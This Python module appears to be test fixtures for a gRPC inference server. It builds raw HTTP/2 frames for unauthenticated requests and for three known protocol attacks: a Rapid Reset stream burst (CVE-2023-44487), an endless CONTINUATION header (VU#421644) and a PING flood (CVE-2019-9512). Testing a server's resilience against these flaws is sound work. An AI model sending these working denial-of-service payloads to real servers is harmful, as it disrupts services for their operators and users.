"""HTTP/2 frames of requests without a token, and of abuses of the protocol (RFC 9113)."""

from collections.abc import Mapping
from typing import Final

GRPC_HEALTH: Final = "/inference.GRPCInferenceService/ServerReady"
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
_DATA, _HEADERS, _RST_STREAM, _PING, _CONTINUATION = 0, 1, 3, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_CANCEL: Final = b"\0\0\0\x08"
_FRAME: Final = 2**14
RESETS: Final = 200
PINGS: Final = 5000
# Bytes of a header that does not end.
HEADER: Final = 2**20


def grpc_request(path: str, headers: Mapping[str, str], size: int) -> bytes:
    """Return a gRPC request with a body of `size` zeros."""
    data = b"".join(_frame(_DATA, 0, bytes(min(_FRAME, size - begin))) for begin in range(0, size, _FRAME))
    return _PREFACE + _frame(_HEADERS, _END_HEADERS, _block(path, headers)) + data + _frame(_DATA, _END_STREAM, b"")


def reset_streams() -> bytes:
    """Return `RESETS` requests, each canceled at once (CVE-2023-44487)."""
    block = _block(GRPC_HEALTH, {})
    streams = range(1, 2 * RESETS, 2)
    return _PREFACE + b"".join(
        _frame(_HEADERS, _END_HEADERS, block, stream) + _frame(_RST_STREAM, 0, _CANCEL, stream) for stream in streams
    )


def endless_header() -> bytes:
    """Return a request whose header goes on in frame after frame (CERT VU#421644)."""
    piece = (b"\0" + _string("x") + _string("y" * 100)) * (_FRAME // 104)
    more = b"".join(_frame(_CONTINUATION, 0, piece) for _ in range(HEADER // _FRAME))
    return _PREFACE + _frame(_HEADERS, 0, _block(GRPC_HEALTH, {})) + more


def pings() -> bytes:
    """Return `PINGS` frames that each ask for a response (CVE-2019-9512)."""
    return _PREFACE + _frame(_PING, 0, bytes(8), 0) * PINGS


def _block(path: str, headers: Mapping[str, str]) -> bytes:
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost", "te": "trailers"}
    fields |= {"content-type": "application/grpc", **headers}
    return b"".join(b"\0" + _string(name) + _string(value) for name, value in fields.items())


def _string(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


def _frame(kind: int, flags: int, payload: bytes, stream: int = 1) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
